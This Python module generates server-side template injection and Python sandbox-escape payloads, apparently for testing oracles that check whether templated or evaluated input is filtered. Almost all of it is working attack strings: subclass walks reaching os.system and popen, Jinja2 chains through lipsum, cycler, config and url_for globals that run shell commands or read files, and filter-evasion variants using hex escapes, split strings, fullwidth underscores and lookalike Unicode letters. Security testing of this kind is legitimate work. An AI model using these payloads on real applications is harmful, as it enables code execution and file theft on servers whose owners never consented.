"""Template and Python expressions that make a file or read one: which context and which filter lets one through? Used
by oracles whose program fills in templates or computes expressions."""

from __future__ import annotations

SUBCLASS_WALK = (
    "[c for c in {start}.__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0]"
    ".__init__.__globals__['system']('{command}')",
    "[c for c in {start}.__class__.__mro__[-1].__subclasses__() if c.__name__=='BuiltinImporter'][0]"
    ".load_module('posix').system('{command}')",
    "[c for c in {start}.__class__.__base__.__subclasses__() if c.__name__=='_wrap_close']"
    ".pop().__init__.__globals__.get('popen')('{command}').read()",
)


def python_with_builtins(path: str, read: str) -> tuple[str, ...]:
    """Python expressions that make the file ``path`` or give the content of ``read``, given the built-in names."""
    spelt = "+".join(f"chr({ord(letter)})" for letter in read)
    code = "+".join(f"chr({ord(letter)})" for letter in f"open('{path}','w')")
    return (
        f"__import__('os').system('>{path}')",
        f'__import__("os").system(">{path}")',
        f"open('{path}','w').close()",
        f"open('{path}','w')",
        f"exec(\"open('{path}','w')\")",
        f"eval({code})",
        f"[open('{path}','w'),1][1]",
        f"exec(\"open('{path}','w')\") or 1",
        f"open('{read}').read()",
        f"open({spelt}).read()",
        f"float(open({spelt}).read())",
        f"getattr(__builtins__,'op'+'en')('{path}','w') and 1",
        f"1 if __import__('os').system('>{path}') else 2",
        f"(lambda: open('{path}','w'))() and 1",
    )


def python_without_builtins(path: str, names: tuple[str, ...] = ()) -> tuple[str, ...]:
    """Python expressions that make the file ``path`` from nothing but objects: literals, and variables by name
    (whose class is asked first, as a plain number has no ``__base__``)."""
    starts = ["()", "''", *(f"{name}.__class__" for name in names)]
    return tuple(walk.format(start=start, command=f">{path}") for walk in SUBCLASS_WALK for start in starts)


def disguised(expression: str) -> tuple[str, ...]:
    """The same Python expression without two underscores in a row (Python folds the wide underscore), and with its
    strings cut in two."""
    wide = expression.replace("__", "_\uff3f")
    cut = wide.replace("'system'", "'sys'+'tem'").replace("'posix'", "'po'+'six'").replace("'_wrap", "'_wr'+'ap")
    letters = str.maketrans({letter: chr(ord(letter) - ord("a") + 0x1D41A) for letter in "aeo"})
    names = {word: word[0] + word[1:].translate(letters) for word in ("class", "base", "subclasses", "globals", "init")}
    folded = cut
    for plain, bold in names.items():
        folded = folded.replace(f"_{plain}", f"_{bold}").replace(f"\uff3f{plain}", f"\uff3f{bold}")
    return (wide, cut, folded)


def jinja(path: str, read: str) -> tuple[str, ...]:
    """Jinja expressions, to stand between braces, that make the file ``path`` or give the content of ``read``: by the
    engine's own globals, by Flask's, by objects alone, and spelt so that filters do not know them."""
    command = f"cat {read}; >{path}"
    globals_ = r"\x5f\x5fglobals\x5f\x5f"
    return (
        f"lipsum.__globals__.os.popen('{command}').read()",
        f"cycler.__init__.__globals__.os.popen('{command}').read()",
        f"self.__init__.__globals__.__builtins__.open('{read}').read()",
        f"self.__init__.__globals__['__builtins__']['open']('{read}').read()",
        f"url_for.__globals__['os'].popen('{command}').read()",
        f"config.__class__.__init__.__globals__['os'].popen('{command}').read()",
        f"request.application.__globals__.__builtins__.__import__('os').popen('{command}').read()",
        f"lipsum|attr('{globals_}')|attr('get')('o'~'s')|attr('po'~'pen')('{command}')|attr('re'~'ad')()",
        f'lipsum|attr("{globals_}")|attr("get")("o"~"s")|attr("po"~"pen")("{command}")|attr("re"~"ad")()',
        f"(lipsum|attr('{globals_}'))['\\x6f\\x73']['\\x70open']('{command}')['\\x72ead']()",
        f"(self|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('{globals_}'))['\\x5f\\x5fbuiltins\\x5f\\x5f']"
        f"['\\x6fpen']('{read}')|attr('re'~'ad')()",
        f"(g.pop|attr('{globals_}'))['\\x5f\\x5fbuiltins\\x5f\\x5f']['\\x6fpen']('{read}')|attr('re'~'ad')()",
        "(''.__class__.__mro__[-1].__subclasses__()|selectattr('__name__','equalto','_wrap_close')|first)"
        f".__init__.__globals__['popen']('{command}').read()",
    )


def jinja_by_variables(path: str, read: str) -> tuple[tuple[str, dict[str, str]], ...]:
    """Jinja expressions without a quote in them, and the variables that hold their strings."""
    command = f"cat {read}; >{path}"
    names = {
        "g": "__globals__",
        "i": "__init__",
        "b": "__builtins__",
        "o": "open",
        "os": "os",
        "p": "popen",
        "r": "read",
    }
    return (
        ("lipsum.__globals__.os.popen(name).read()", {"name": command}),
        ("cycler.__init__.__globals__.os.popen(name).read()", {"name": command}),
        ("self.__init__.__globals__.__builtins__.open(name).read()", {"name": read}),
        ("(lipsum|attr(g)).get(os)|attr(p)(name)|attr(r)()", {**names, "name": command}),
        ("lipsum|attr(g)|attr(get)(os)|attr(p)(name)|attr(r)()", {**names, "get": "get", "name": command}),
        ("self|attr(i)|attr(g)|attr(item)(b)|attr(item)(o)(name)|attr(r)()", {**names, "item": "get", "name": read}),
    )
